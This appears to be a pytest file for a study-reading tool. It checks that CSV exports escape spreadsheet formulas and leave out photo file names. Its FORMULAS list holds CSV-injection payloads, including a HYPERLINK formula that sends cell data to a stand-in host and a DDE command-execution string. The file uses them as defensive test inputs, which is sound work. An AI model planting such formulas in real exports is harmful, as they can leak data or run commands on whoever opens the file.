"""Every CSV export is safe to open in a spreadsheet, and the reads carry no file names."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from click.testing import CliRunner

from tests.services.test_analysis import (
    add_reader,
    add_run,
    make_study,
    synthetic_probs,
    synthetic_ratings,
)
from wbsdesk.cli import cli
from wbsdesk.core.csv_export import FORMULA_START, csv_text, safe_cell
from wbsdesk.services.analysis import build_comparison
from wbsdesk.services.reading import export_reads, reads_csv
from wbsdesk.services.reports import CSV_FILES, table_csv, write_report

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(A1:A9)", "-1+1", "+1+1",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), (cell, row)


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_text_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value
    (_header, row) = _cells(csv_text([{"name": value, "x": 1}], ["name", "x"]))
    assert row == ["'" + value, "1"]


def test_numbers_and_plain_text_stay_as_they_are():
    rows = [{"a": -1.5, "b": -3, "c": "-0.25", "d": "1e-3", "e": "Dr. A", "f": None}]
    text = csv_text(rows, list(rows[0]))
    assert _cells(text)[1] == ["-1.5", "-3", "-0.25", "1e-3", "Dr. A", ""]
    assert table_csv([{"diff": -0.25, "p": float("nan"), "reader": "=1+1"}]) == \
        "diff,p,reader\n-0.25,NaN,'=1+1\n"


@pytest.fixture
def read_study(ws):
    subjects = make_study(ws)
    ratings = {s["photo"]: 1 + i % 5 for i, s in enumerate(subjects.values())}
    for name in FORMULAS[:3]:
        add_reader(ws, "s", name, ratings)
    return ws, subjects


def test_session_export_neutralises_formulas_and_hides_file_names(read_study):
    ws, subjects = read_study
    rows = export_reads(ws, "s")
    text = reads_csv(rows)
    _assert_no_formula(text)
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert {r["reader"] for r in parsed} == {"'" + f for f in FORMULAS[:3]}
    assert all(r["photo"] == f"P{int(r['photo_id']):04d}" for r in parsed)
    assert not any(f"{key}.jpg" in text for key in subjects)
    named = list(csv.DictReader(io.StringIO(reads_csv(export_reads(ws, "s",
                                                                   with_file_names=True)))))
    assert {r["photo"] for r in named} == {f"{key}.jpg" for key in subjects}


def test_session_export_command(read_study):
    ws, subjects = read_study
    root = str(ws.root)
    ws.close()
    res = CliRunner().invoke(cli, ["--workspace", root, "session", "export", "s"])
    assert res.exit_code == 0, res.output
    _assert_no_formula(res.stdout)
    assert ".jpg" not in res.stdout and "P00" in res.stdout
    res = CliRunner().invoke(cli, ["--workspace", root, "session", "export", "s",
                                   "--with-file-names", "--json"])
    assert {r["photo"] for r in json.loads(res.stdout)} == {f"{k}.jpg" for k in subjects}


def test_report_csvs_and_html_are_safe(ws, tmp_path):
    subjects = make_study(ws)
    add_run(ws, "s", subjects, synthetic_probs(subjects, ["resnet18", "mobilenet_v2"]))
    for i, name in enumerate(FORMULAS[:2]):
        add_reader(ws, "s", name, synthetic_ratings(subjects, seed=i, skill=1.0))
    comp = build_comparison(ws, "s")
    files = write_report(comp, tmp_path / "rep").files
    negative = 0
    for key, path in files.items():
        if path.suffix not in (".csv", ".html", ".imrmc", ".json", ".txt", ".svg"):
            continue  # figures
        text = path.read_text(encoding="utf-8")
        if path.suffix == ".csv":
            _assert_no_formula(text)
            negative += sum(cell.startswith("-") for row in _cells(text) for cell in row)
        assert not any(f"{k}.jpg" in text for k in subjects), key
    readers = _cells((tmp_path / "rep" / CSV_FILES["table5"]).read_text(encoding="utf-8"))
    assert "'" + FORMULAS[0] in {row[0] for row in readers}
    assert negative > 0  # negative numbers (e.g. AUC differences) are still plain numbers
